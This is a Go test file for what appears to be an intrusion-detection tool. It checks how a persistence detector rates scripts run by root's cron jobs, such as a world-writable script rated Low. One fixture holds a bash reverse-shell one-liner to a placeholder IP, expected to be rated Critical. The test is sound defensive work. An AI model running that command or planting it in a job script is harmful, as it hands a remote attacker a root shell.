package persistence_test

import (
	"testing"

	"telltale/detect"
	"telltale/detect/detecttest"
	"telltale/detect/persistence"
)

// TestScriptsOfJobs: a script is told only if a job of root's runs it, and somebody else may write it or it does what few jobs do.
func TestScriptsOfJobs(t *testing.T) {
	const cron = "03:00:00 cron-entry user.name=root file.path=/etc/cron.d/x process.command_line=\"/opt/run.sh >/dev/null 2>&1\"\n"
	for name, tc := range map[string]struct {
		events string
		want   detect.Level // info: nothing is told
	}{
		"everybody may write it":  {cron + "03:00:00 hookup record.type=job-script file.path=/opt/run.sh process.command_line=/opt/run.sh file.mode=777 file.uid=0", detect.Low},
		"root's own":              {cron + "03:00:00 hookup record.type=job-script file.path=/opt/run.sh process.command_line=/opt/run.sh file.mode=755 file.uid=0", detect.Info},
		"root's own, a shell out": {cron + "03:00:00 hookup record.type=job-script file.path=/opt/run.sh process.command_line=/opt/run.sh file.mode=755 file.uid=0 process.script=\"bash -i >& /dev/tcp/203.0.113.6/44 0>&1\"", detect.Critical},
		"nobody runs it":          {"03:00:00 hookup record.type=job-script file.path=/opt/run.sh process.command_line=/opt/run.sh file.mode=777 file.uid=0", detect.Info},
	} {
		level := detect.Info
		for _, f := range detecttest.Of(detecttest.Run(t, persistence.New(), detecttest.Scene(), tc.events), detect.Persistence) {
			if f.Mechanism == "job-script" {
				level = f.Level
			}
		}
		if level != tc.want {
			t.Errorf("%s: %v, want %v", name, level, tc.want)
		}
	}
}
